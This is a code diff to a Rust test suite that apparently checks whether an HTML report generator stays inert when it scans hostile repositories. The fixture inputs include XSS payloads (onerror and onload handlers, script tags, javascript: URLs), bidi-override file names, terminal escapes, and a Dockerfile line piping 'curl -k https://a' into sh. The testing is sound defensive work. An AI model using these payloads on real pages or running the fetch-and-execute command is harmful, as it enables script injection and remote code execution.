@@ -55,18 +55,19 @@ fn secrets_are_not_on_the_page() {
 fn hostile_repositories_are_inert() {
     let Some(browser) = Browser::start() else { return };
     let markup = "\"'><img src=x onerror=window.pwned=1><script>window.pwned=2<";
-    let spec = format!("spec: {{containers: [{{name: 'a\u{202e}{}', image: ''}}]}}", "<b>");
+    let spec = "spec: {containers: [{name: 'a\u{202e}<b>', image: ''}]}";
     let name = "</script></style><script>window.pwned=3</script><svg onload=alert(1)>";
     let pod = format!(
         "apiVersion: v1\nkind: Pod\nmetadata: {{name: '{name}', namespace: \"\\0\\e[31m\"}}\n{spec}\n"
     );
     let reason =
         "# careen: ignore[host-port] </script><img src=x onerror=alert(1)> javascript:alert(1)";
+    let quiet = format!("{POD}    ports: [{{hostPort: 80}}] {reason}\n");
     let files: [(&str, &[u8]); 4] = [
         (&format!("{markup}.yaml"), pod.as_bytes()),
         ("bidi\u{202e}\u{2066}lmay.yaml", pod.as_bytes()),
         ("Dockerfile", b"FROM \"'><img/src=x/onerror=alert(1)>\nRUN curl -k https://a | sh\n"),
-        ("z.yaml", format!("{POD}    ports: [{{hostPort: 80}}] {reason}\n").as_bytes()),
+        ("z.yaml", quiet.as_bytes()),
     ];
     let folder = folder(&files);
     let (_page, path) = page(folder.path(), &["--show-suppressed"]);
@@ -225,7 +226,7 @@ fn it_prints() {
          return {
             folded: all('.manual, .finding').filter((it) => !seen(it)).length,
             screen: all('.contents, .filter, .skip').filter(seen).length,
-            torn: all('.place, .finding').filter((it) => getComputedStyle(it).breakInside !== 'avoid').length,
+            torn: all('.finding, .card').filter((it) => getComputedStyle(it).breakInside !== 'avoid').length,
             page: getComputedStyle(document.body).backgroundColor,
             addresses: all('.manual a[href^=http]').every((it) => it.textContent === it.getAttribute('href')
                 || it.textContent.startsWith('CWE-')),
